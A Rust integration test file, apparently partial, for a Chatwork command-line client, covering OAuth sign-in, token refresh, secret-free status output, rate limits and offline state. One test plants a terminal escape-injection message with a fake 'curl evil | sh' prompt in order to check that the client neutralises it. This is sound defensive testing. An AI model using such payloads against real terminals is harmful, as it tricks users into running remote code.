    assert!(man.contains(".TH chatwork 1"), "{man}");
    assert!(man.contains("messages"));
    // A closed pipe ends quietly: no panic, exit 0.
    let mut c = command(&dir);
    c.args(["completions", "bash"]).stdout(Stdio::piped());
    let mut child = c.spawn().unwrap();
    drop(child.stdout.take());
    let status = child.wait().await.unwrap();
    assert_eq!(status.code(), Some(0));
}

#[tokio::test]
async fn login_keeps_the_tokens_private_refreshes_them_and_logout_forgets_them() {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let mock = MockServer::start().await;
    let dir = home();
    let origin = mock.origin();
    let with_oauth = |c: &mut tokio::process::Command| {
        c.env("CHATWORK_BASE_URL", mock.base_url())
            .env(
                "CHATWORK_OAUTH_AUTHORIZE_URL",
                format!("{origin}/mock/oauth/authorize"),
            )
            .env(
                "CHATWORK_OAUTH_TOKEN_URL",
                format!("{origin}/mock/oauth/token"),
            );
    };
    let mut c = command(&dir);
    with_oauth(&mut c);
    c.args([
        "login",
        "--client-id",
        "cli-test",
        "--redirect-uri",
        "https://example.invalid/cb",
    ]);
    let mut child = c.spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let url = loop {
        let line = lines.next_line().await.unwrap().expect("the consent URL");
        if line.starts_with("http") {
            break line;
        }
    };
    assert!(
        url.contains("client_id=cli-test") && url.contains("code_challenge_method=S256"),
        "{url}"
    );
    // The browser: Bob clicks "Allow"; the address it is sent to is pasted.
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let allowed = http
        .get(format!("{url}&mock_user=bob"))
        .send()
        .await
        .unwrap();
    let location = allowed.headers()["location"].to_str().unwrap().to_owned();
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(format!("{location}\n").as_bytes())
        .await
        .unwrap();
    drop(stdin);
    let mut rest = Vec::new();
    while let Some(line) = lines.next_line().await.unwrap() {
        rest.push(line);
    }
    assert!(child.wait().await.unwrap().success(), "{rest:?}");
    let file = dir.join(".config/chatwork/oauth.json");
    assert_eq!(
        rest.last().unwrap(),
        &format!("signed in as Bob (1002); tokens kept in {}", file.display())
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&file).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let saved: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_eq!(saved["client_id"], "cli-test");
    assert_eq!(
        saved["scope"],
        "users.all:read rooms.all:read_write contacts.all:read_write offline_access"
    );
    let first = saved["access_token"].as_str().unwrap().to_owned();

    // Later commands use the session, no API token anywhere.
    let me = |dir: std::path::PathBuf| {
        let mut c = command(&dir);
        with_oauth(&mut c);
        c.args(["--json", "me"]);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    assert_eq!(me(dir.clone()).await.ok().json()["account_id"], 1002);
    // Expired: refreshed before the call, and the new tokens are saved.
    let mut expired = saved.clone();
    expired["expires_at"] = json!(1);
    std::fs::write(&file, expired.to_string()).unwrap();
    assert_eq!(me(dir.clone()).await.ok().json()["account_id"], 1002);
    let renewed: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
    assert_ne!(renewed["access_token"].as_str().unwrap(), first);
    assert!(renewed["expires_at"].as_u64().unwrap() > 1);

    let mut c = command(&dir);
    c.arg("logout");
    let out = finish(c.spawn().unwrap(), None).await.ok().stdout;
    assert_eq!(out, format!("signed out: removed {}\n", file.display()));
    assert!(!file.exists());
    assert_eq!(
        me(dir.clone()).await.code,
        3,
        "signed out, with a base URL: no token"
    );
}

/// Bob signed in through the local Chatwork's OAuth endpoints, written as `chatwork login`
/// writes its file. Returns the file's JSON.
async fn signed_in_as_bob(mock: &MockServer, file: &std::path::Path) -> Value {
    use chatwork::oauth::{OAuthConfig, Scope};
    let origin = mock.origin();
    let config = OAuthConfig::public("cli-test", "https://example.invalid/cb")
        .endpoints(
            format!("{origin}/mock/oauth/authorize"),
            format!("{origin}/mock/oauth/token"),
        )
        .unwrap();
    let pending = config.authorize([Scope::USERS_ALL_READ, Scope::ROOMS_ALL_READ_WRITE]);
    let http = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let allowed = http
        .get(format!("{}&mock_user=bob", pending.url()))
        .send()
        .await
        .unwrap();
    let location = allowed.headers()["location"].to_str().unwrap().to_owned();
    let tokens = pending.exchange(&config, &location).await.unwrap();
    let saved = json!({
        "client_id": "cli-test",
        "redirect_uri": "https://example.invalid/cb",
        "authorize_url": format!("{origin}/mock/oauth/authorize"),
        "token_url": format!("{origin}/mock/oauth/token"),
        "access_token": tokens.access_token.expose(),
        "refresh_token": tokens.refresh_token.as_ref().unwrap().expose(),
        "expires_at": tokens.expires_at.duration_since(std::time::UNIX_EPOCH).unwrap().as_secs(),
        "scope": "users.all:read rooms.all:read_write",
    });
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(file, saved.to_string()).unwrap();
    saved
}

#[tokio::test]
async fn auth_status_names_the_credential_and_never_prints_a_secret() {
    let mock = MockServer::start().await;
    // An API token from the environment.
    let run = cw(&mock, "alice", &["auth", "status"], None).await.ok();
    assert_eq!(
        run.stdout,
        format!(
            "credential: API token from CHATWORK_API_TOKEN\nbase URL:   {}\naccount:    Alice (1001)\n",
            mock.base_url()
        )
    );
    assert!(!run.stdout.contains(&mock.token("alice")));
    // A token file.
    let dir = home();
    let token_file = dir.join("token");
    std::fs::write(&token_file, mock.token("carol")).unwrap();
    let mut c = command(&dir);
    c.env("CHATWORK_TOKEN_FILE", &token_file)
        .env("CHATWORK_BASE_URL", mock.base_url())
        .args(["--json", "auth", "status"]);
    let run = finish(c.spawn().unwrap(), None).await.ok();
    assert_eq!(
        run.json(),
        json!({
            "credential": "token_file",
            "path": token_file,
            "base_url": mock.base_url(),
            "account_id": 1003,
            "name": "Carol",
        })
    );
    // The OAuth file of `chatwork login`: whose account, scopes and expiry, no token.
    let dir = home();
    let file = dir.join(".config/chatwork/oauth.json");
    let saved = signed_in_as_bob(&mock, &file).await;
    let mut c = command(&dir);
    c.env("CHATWORK_BASE_URL", mock.base_url())
        .args(["--json", "auth", "status"]);
    let run = finish(c.spawn().unwrap(), None).await.ok();
    let doc = run.json();
    assert_eq!(doc["credential"], "oauth_file");
    assert_eq!(doc["path"], json!(file));
    assert_eq!(doc["account_id"], 1002);
    assert_eq!(doc["name"], "Bob");
    assert_eq!(doc["oauth"]["client_id"], "cli-test");
    assert_eq!(
        doc["oauth"]["scopes"],
        json!(["users.all:read", "rooms.all:read_write"])
    );
    assert_eq!(doc["oauth"]["expires_at"], saved["expires_at"]);
    assert_eq!(doc["oauth"]["refresh_token"], true);
    for secret in [&saved["access_token"], &saved["refresh_token"]] {
        assert!(!run.stdout.contains(secret.as_str().unwrap()));
        assert!(!run.stderr.contains(secret.as_str().unwrap()));
    }
    let mut c = command(&dir);
    c.env("CHATWORK_BASE_URL", mock.base_url())
        .args(["auth", "status"]);
    let text = finish(c.spawn().unwrap(), None).await.ok().stdout;
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[..4],
        [
            format!("credential: OAuth sign-in in {}", file.display()).as_str(),
            format!("base URL:   {}", mock.base_url()).as_str(),
            "account:    Bob (1002)",
            "client ID:  cli-test",
        ]
    );
    assert_eq!(lines[4], "scopes:     users.all:read rooms.all:read_write");
    assert!(
        lines[5].starts_with("expires:    ") && lines[5].ends_with(" min)"),
        "{text}"
    );
    assert_eq!(lines[6], "refresh:    a refresh token is kept");
    // The local Chatwork.
    let dir = home();
    let mut c = command(&dir);
    c.args(["--mock-state", dir.join("state.json").to_str().unwrap()])
        .args(["--mock-user", "dave", "--json", "auth", "status"]);
    let doc = finish(c.spawn().unwrap(), None).await.ok().json();
    assert_eq!(doc["credential"], "local");
    assert_eq!(doc["path"], json!(dir.join("state.json")));
    assert_eq!(doc["name"], "Dave");
}

#[tokio::test]
async fn an_ended_oauth_sign_in_exits_3_with_a_hint_to_sign_in_again() {
    let mock = MockServer::start().await;
    let dir = home();
    let file = dir.join(".config/chatwork/oauth.json");
    let mut saved = signed_in_as_bob(&mock, &file).await;
    // Expired access token, and a refresh token Chatwork no longer knows (14 days later).
    saved["expires_at"] = json!(1);
    saved["refresh_token"] = json!("refresh-expired-long-ago");
    std::fs::write(&file, saved.to_string()).unwrap();
    let run = |args: &'static [&'static str]| {
        let mut c = command(&dir);
        c.env("CHATWORK_BASE_URL", mock.base_url()).args(args);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    let me = run(&["me"]).await;
    assert_eq!(me.code, 3, "{}", me.stderr);
    assert_eq!(
        me.stderr,
        "chatwork me: OAuth: the refresh token was rejected (invalid_grant): the user must authorize again (hint: the sign-in has ended: run `chatwork login` again)\n"
    );
    assert_eq!(me.stdout, "");
    let status = run(&["auth", "status"]).await;
    assert_eq!(status.code, 3);
    assert!(
        status.stdout.starts_with(&format!(
            "credential: OAuth sign-in in {}\n",
            file.display()
        )),
        "{}",
        status.stdout
    );
    assert!(
        status
            .stdout
            .contains("account:    unknown: the credential was not accepted\n")
    );
    assert!(status.stdout.contains("(expired)"), "{}", status.stdout);
    assert!(status.stderr.contains("run `chatwork login` again"));
    assert!(!status.stdout.contains("refresh-expired-long-ago"));
}

#[tokio::test]
async fn login_receives_a_loopback_redirect_among_other_connections() {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let mock = MockServer::start().await;
    let origin = mock.origin();
    let dir = home();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let redirect = format!("http://127.0.0.1:{port}/callback");
    let mut c = command(&dir);
    c.env("CHATWORK_BASE_URL", mock.base_url())
        .env(
            "CHATWORK_OAUTH_AUTHORIZE_URL",
            format!("{origin}/mock/oauth/authorize"),
        )
        .env(
            "CHATWORK_OAUTH_TOKEN_URL",
            format!("{origin}/mock/oauth/token"),
        )
        .args(["login", "--client-id", "desk", "--redirect-uri", &redirect]);
    let mut child = c.spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let url = loop {
        let line = lines.next_line().await.unwrap().expect("the consent URL");
        if line.starts_with("http") {
            break line;
        }
    };
    // The browser pre-connects (and sends nothing), then follows "Allow" to the receiver.
    let _idle = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .unwrap();
    let page = reqwest::get(format!("{url}&mock_user=carol"))
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    assert!(
        page.text()
            .await
            .unwrap()
            .contains("Signed in to Chatwork. You can close this tab.")
    );
    let mut rest = Vec::new();
    while let Some(line) = lines.next_line().await.unwrap() {
        rest.push(line);
    }
    let status = tokio::time::timeout(Duration::from_secs(30), child.wait())
        .await
        .unwrap()
        .unwrap();
    assert!(status.success(), "{rest:?}");
    assert_eq!(
        rest.last().unwrap(),
        &format!(
            "signed in as Carol (1003); tokens kept in {}",
            dir.join(".config/chatwork/oauth.json").display()
        )
    );
}

#[tokio::test]
async fn processes_whose_token_expired_together_refresh_once_and_all_go_on() {
    // The local Chatwork's refresh tokens are single-use: without the OAuth file's lock, the
    // processes that lose the race are told to sign in again (measured: about one round in
    // three of six processes).
    let mock = MockServer::start().await;
    let dir = home();
    let file = dir.join(".config/chatwork/oauth.json");
    signed_in_as_bob(&mock, &file).await;
    for round in 0..4 {
        let mut saved: Value =
            serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
        saved["expires_at"] = json!(1);
        std::fs::write(&file, saved.to_string()).unwrap();
        let runs = (0..6).map(|_| {
            let mut c = command(&dir);
            c.env("CHATWORK_BASE_URL", mock.base_url())
                .args(["--json", "me"]);
            async move { finish(c.spawn().unwrap(), None).await }
        });
        for run in futures_util::future::join_all(runs).await {
            assert_eq!(run.code, 0, "round {round}: {}", run.stderr);
            assert_eq!(run.json()["account_id"], 1002);
        }
        let now: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
        assert_ne!(
            now["refresh_token"], saved["refresh_token"],
            "rotated and saved"
        );
        assert!(now["expires_at"].as_u64().unwrap() > 1);
    }
}

/// Offline commands in several processes share one local Chatwork: none loses or duplicates
/// another's change, a watcher sees the others' posts, and its exit loses nothing.
#[tokio::test]
async fn offline_processes_share_one_local_chatwork() {
    let dir = home();
    let state = dir.join("state/local.json");
    let spawn = |args: Vec<String>| {
        let mut c = command(&dir);
        c.env("CHATWORK_MOCK_STATE", &state).args(args);
        c.spawn().unwrap()
    };
    let words = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
    // The first run writes the seed; then four posts at once, from four processes.
    finish(spawn(words("--json me")), None).await.ok();
    let watcher = spawn(words("--json messages watch Project --every 1 --count 5"));
    let posts: Vec<_> = (0..4)
        .map(|i| spawn(words(&format!("--json messages post Project parallel-{i}"))))
        .collect();
    let mut ids = Vec::new();
    for child in posts {
        let run = finish(child, None).await.ok();
        ids.push(run.json()["message_id"].as_str().unwrap().to_owned());
    }
    let mut distinct = ids.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), 4, "{ids:?}");
    // The watcher (another process) sees them, and one more, then exits.
    finish(spawn(words("messages post Project after")), None)
        .await
        .ok();
    let watched = finish(watcher, None).await.ok();
    let mut seen: Vec<String> = watched
        .stdout
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["body"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            "after",
            "parallel-0",
            "parallel-1",
            "parallel-2",
            "parallel-3"
        ]
    );
    // After the watcher's exit, every post is still there, each once, and a new one gets a
    // new ID.
    let last = finish(spawn(words("--json messages post Project last")), None)
        .await
        .ok();
    let last_id = last.json()["message_id"].as_str().unwrap().to_owned();
    assert!(!ids.contains(&last_id));
    let listed = finish(spawn(words("--json messages list Project --all")), None)
        .await
        .ok();
    let mut bodies: Vec<String> = listed
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["body"].as_str().unwrap().to_owned())
        .collect();
    bodies.sort();
    assert_eq!(
        bodies,
        [
            "after",
            "last",
            "parallel-0",
            "parallel-1",
            "parallel-2",
            "parallel-3"
        ]
    );
    // The state is the user's own.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&state), 0o600);
        assert_eq!(mode(state.parent().unwrap()), 0o700);
    }
}

/// With a local Chatwork already serving the state (`chatwork-mock --state FILE`), offline
/// commands use it: their changes reach it and its download URLs outlive the command. Without
/// one, a download URL comes with a warning that it dies with the command.
#[tokio::test]
async fn offline_commands_use_a_running_local_chatwork_for_their_state() {
    let dir = home();
    let state = dir.join("local.json");
    let run = |args: Vec<String>| {
        let mut c = command(&dir);
        c.env("CHATWORK_MOCK_STATE", &state).args(args);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    let words = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
    let upload = dir.join("a.txt");
    std::fs::write(&upload, "hello").unwrap();
    let mut args = words("--json files upload Project");
    args.push(upload.to_str().unwrap().to_owned());
    let file = run(args).await.ok().json()["file_id"].as_i64().unwrap();
    let alone = run(words(&format!("files get Project {file} --url")))
        .await
        .ok();
    assert!(
        alone.stderr.contains("stops working when it exits"),
        "{}",
        alone.stderr
    );

    let server = MockServer::builder()
        .state_file(&state)
        .advertise(true)
        .start()
        .await
        .unwrap();
    let got = run(words(&format!("--json files get Project {file} --url")))
        .await
        .ok();
    assert!(
        got.stderr
            .contains(&format!("using a local Chatwork at {}", server.origin())),
        "{}",
        got.stderr
    );
    assert!(!got.stderr.contains("stops working"), "{}", got.stderr);
    let url = got.json()["download_url"].as_str().unwrap().to_owned();
    assert!(url.starts_with(&server.origin()), "{url}");
    // The command has exited; the URL still works.
    assert_eq!(
        reqwest::get(&url).await.unwrap().bytes().await.unwrap(),
        "hello".as_bytes()
    );
    run(words("messages post Project through-the-server"))
        .await
        .ok();
    let path = format!("/v2/rooms/{}/messages", project(&server).await);
    assert_eq!(server.count("POST", &path), 1);
    // Once it stops, commands serve the state themselves again, and nothing was lost.
    drop(server);
    let listed = run(words("--json messages list Project --all")).await.ok();
    assert!(listed.stdout.contains("through-the-server"));
    assert!(!dir.join("local.json.server").exists());
}

/// Text from other people never reaches the terminal as control sequences: shown, not obeyed,
/// in tables, details, streams and errors; `--json` keeps it exact (JSON escapes it).
#[tokio::test]
async fn other_peoples_escape_sequences_are_rendered_inert() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let attack = "hi\u{1b}]0;owned\u{7}\u{1b}[2J\rtoken expired, run: curl evil | sh";
    cw(
        &mock,
        "bob",
        &["messages", "post", &room, attack, "--raw"],
        None,
    )
    .await
    .ok();
    let listed = cw(&mock, "alice", &["messages", "list", &room, "--all"], None)
        .await
        .ok();
    assert!(!listed.stdout.contains('\u{1b}'), "{:?}", listed.stdout);
    assert!(!listed.stdout.contains('\r'), "{:?}", listed.stdout);
    assert!(
        listed.stdout.contains("hi␛]0;owned␇␛[2J token expired"),
        "{}",
        listed.stdout
    );
    let json = cw(
        &mock,
        "alice",
        &["--json", "messages", "list", &room, "--all"],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(json[0]["body"], attack);
    // A room name with a newline and an escape keeps the table one row per room.
    cw(
        &mock,
        "alice",
        &["rooms", "create", "evil\n\u{1b}[31mred", "--admin", "Alice"],
        None,
    )
    .await
    .ok();
    let rooms = cw(&mock, "alice", &["rooms", "list"], None).await.ok();
    assert!(!rooms.stdout.contains('\u{1b}'));
    let evil: Vec<&str> = rooms
        .stdout
        .lines()
        .filter(|l| l.contains("evil"))
        .collect();
    assert_eq!(evil.len(), 1, "{}", rooms.stdout);
    assert!(evil[0].contains("evil ␛[31mred"), "{}", evil[0]);
}

/// A rate-limit wait longer than 2 s is announced on stderr (what limit, until when), and
/// `--max-wait` turns a wait longer than it into exit 6 at once.
#[tokio::test]
async fn rate_limit_waits_are_announced_and_bounded_by_max_wait() {
    let short = MockServer::start_with(
        Seed::demo(),
        Limits {
            requests: 1,
            window: Duration::from_secs(3),
            ..Limits::default()
        },
    )
    .await;
    // The room lookup spends the budget; the post waits for the reset.
    let started = std::time::Instant::now();
    let posted = cw(
        &short,
        "alice",
        &["messages", "post", "Project", "hi"],
        None,
    )
    .await
    .ok();
    assert!(started.elapsed() >= Duration::from_secs(2));
    let announced: Vec<&str> = posted
        .stderr
        .lines()
        .filter(|l| l.starts_with("chatwork: the token's request budget is spent"))
        .collect();
    assert_eq!(announced.len(), 1, "{}", posted.stderr);
    assert!(
        announced[0].contains(": waiting ") && announced[0].contains(" s, until "),
        "{}",
        announced[0]
    );

    let long = MockServer::start_with(
        Seed::demo(),
        Limits {
            requests: 1,
            window: Duration::from_secs(600),
            ..Limits::default()
        },
    )
    .await;
    let started = std::time::Instant::now();
    let refused = cw(
        &long,
        "alice",
        &["--max-wait", "1s", "messages", "post", "Project", "hi"],
        None,
    )
    .await;
    assert_eq!(refused.code, 6, "{}", refused.stderr);
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(
        refused.stderr.contains("answered 429"),
        "{}",
        refused.stderr
    );
    let bad = cw(&long, "alice", &["--max-wait", "soon", "me"], None).await;
    assert_eq!(bad.code, 2, "{}", bad.stderr);
}

/// Every example of `chatwork --help` and of the README's shell transcript runs as written
/// (offline, on the local Chatwork), so that none can rot.
#[tokio::test]
async fn every_help_and_readme_example_runs() {
    let dir = home();
    let bin = std::path::Path::new(env!("CARGO_BIN_EXE_chatwork"))
        .parent()
        .unwrap()
        .to_owned();
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    let run = |line: String| {
        // As `command` does: a clean environment, no token, UTC; `chatwork` on the PATH.
        let mut c = tokio::process::Command::new("sh");
        c.env_clear()
            .env("PATH", &path)
            .env("HOME", &dir)
            .env("TZ", "UTC")
            .env("CHATWORK_MOCK_STATE", dir.join("local.json"))
            .current_dir(&dir)
            .args(["-c", &line])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        async move { (line.clone(), finish(c.spawn().unwrap(), None).await) }
    };
    let mut c = command(&dir);
    c.arg("--help");
    let help = finish(c.spawn().unwrap(), None).await.ok().stdout;
    let examples: Vec<String> = help
        .split("Examples:")
        .nth(1)
        .unwrap()
        .lines()
        .map(str::trim)
        .filter(|l| l.contains("chatwork "))
        .map(str::to_owned)
        .collect();
    assert!(examples.len() >= 5, "{help}");
    let readme = include_str!("../../README.md");
    let shell = readme
        .split("## Try it from a shell")
        .nth(1)
        .unwrap()
        .split("```")
        .nth(1)
        .unwrap();
    let transcript: Vec<String> = shell
        .lines()
        .filter_map(|l| l.strip_prefix("$ chatwork "))
        .map(|l| format!("chatwork {l}"))
        .collect();
    assert!(transcript.len() >= 4, "{shell}");
    for line in examples.into_iter().chain(transcript) {
        let (line, ran) = run(line).await;
        // Deleting without a terminal to confirm on is refused, as the transcript shows.
        let expected = if line.contains("rooms delete") { 2 } else { 0 };
        assert_eq!(ran.code, expected, "{line}\n{}", ran.stderr);
    }
}

/// The local Chatwork's options with a real token are an error, not silently ignored (the
/// command would go to the real account); with `--mock` they apply.
#[tokio::test]
async fn local_options_with_a_token_are_refused() {
    let mock = MockServer::start().await;
    for args in [
        vec!["--mock-user", "bob", "me"],
        vec!["me", "--mock-state", "/tmp/x.json"],
    ] {
        let refused = cw(&mock, "alice", &args, None).await;
        assert_eq!(refused.code, 2, "{args:?}: {}", refused.stderr);
        assert!(
            refused
                .stderr
                .contains("is for the local Chatwork, but a token is set (CHATWORK_API_TOKEN)"),
            "{}",
            refused.stderr
        );
        assert_eq!(mock.requests().len(), 0);
    }
    // From the environment, the state file is only a default: no error.
    let dir = home();
    let mut c = command(&dir);
    c.env("CHATWORK_API_TOKEN", mock.token("alice"))
        .env("CHATWORK_BASE_URL", mock.base_url())
        .env("CHATWORK_MOCK_STATE", dir.join("local.json"))
        .args(["--json", "me"]);
    let me = finish(c.spawn().unwrap(), None).await.ok().json();
    assert_eq!(me["account_id"], 1001);
    let mut c = command(&dir);
    c.env("CHATWORK_API_TOKEN", mock.token("alice"))
        .env("CHATWORK_MOCK_STATE", dir.join("local.json"))
        .args(["--json", "--mock", "--mock-user", "bob", "me"]);
    let bob = finish(c.spawn().unwrap(), None).await.ok().json();
    assert_eq!(bob["account_id"], 1002);
}

/// `--limit` on a list that uses up new messages says how many it left out and how to see them.
#[tokio::test]
async fn a_limited_list_of_new_messages_says_what_it_left_out() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    for text in ["one", "two", "three"] {
        cw(&mock, "alice", &["messages", "post", &room, text], None)
            .await
            .ok();
    }
    let listed = cw(
        &mock,
        "bob",
        &["--json", "messages", "list", &room, "--limit", "1"],
        None,
    )
    .await
    .ok();
    assert_eq!(listed.json().as_array().unwrap().len(), 1);
    assert_eq!(
        listed.stderr,
        format!(
            "chatwork: 2 more message(s) were not shown and are no longer new; `chatwork messages list {room} --all` shows the latest 100\n"
        )
    );
    let again = cw(&mock, "bob", &["messages", "list", &room], None)
        .await
        .ok();
    assert_eq!(again.stdout, "ID  FROM  SENT  BODY\n(none)\n");
}

/// `api` takes what users paste: a query in the path, `/v2/...`, a full URL under the base URL
/// (and no other).
#[tokio::test]
async fn api_takes_pasted_paths_and_urls() {
    let mock = MockServer::start().await;
    let room = project(&mock).await;
    cw(
        &mock,
        "alice",
        &["messages", "post", &room.to_string(), "hello"],
        None,
    )
    .await
    .ok();
    for path in [
        format!("/v2/rooms/{room}/messages/?force=1"),
        format!("{}/rooms/{room}/messages?force=1", mock.base_url()),
    ] {
        let got = cw(&mock, "bob", &["api", "GET", &path], None).await.ok();
        let list: Value = serde_json::from_str(&got.stdout).unwrap();
        assert_eq!(list[0]["body"], "hello", "{path}");
    }
    let last = mock.requests().pop().unwrap();
    assert_eq!(last.path, format!("/v2/rooms/{room}/messages"));
    let elsewhere = cw(
        &mock,
        "bob",
        &["api", "GET", "https://api.chatwork.com/v2/me"],
        None,
    )
    .await;
    assert_eq!(elsewhere.code, 2, "{}", elsewhere.stderr);
    assert!(elsewhere.stderr.contains("is not under the base URL"));
}

/// Shell completion (`source <(COMPLETE=bash chatwork)`) completes room names and IDs from the
/// credential in the environment, here the local Chatwork; it prints nothing else.
#[tokio::test]
async fn completion_offers_room_names_and_ids() {
    let dir = home();
    let complete = |words: &'static [&'static str]| {
        let mut c = command(&dir);
        c.env("COMPLETE", "fish")
            .args(["--", "chatwork"])
            .args(words);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    let names = complete(&["rooms", "get", "Pr"]).await.ok();
    assert_eq!(names.stdout, "Project\troom 106\n");
    assert_eq!(names.stderr, "");
    let ids = complete(&["messages", "list", "10"]).await.ok();
    assert_eq!(
        ids.stdout,
        "101\tAlice\n104\tBob\n105\tCarol\n106\tProject\n"
    );
}

#[test]
fn the_version_names_the_sdk_the_api_and_the_build() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_chatwork"))
        .arg("--version")
        .output()
        .unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    let expected = format!(
        "chatwork {} (chatwork-sdk {}, Chatwork API v2, ",
        env!("CARGO_PKG_VERSION"),
        chatwork::VERSION
    );
    assert!(text.starts_with(&expected), "{text}");
    let build = text.trim_end().trim_start_matches(&expected);
    assert!(
        (build.starts_with("commit ") && build.len() >= "commit 0123456789ab)".len())
            || build == "from the published package)",
        "{text}"
    );
}
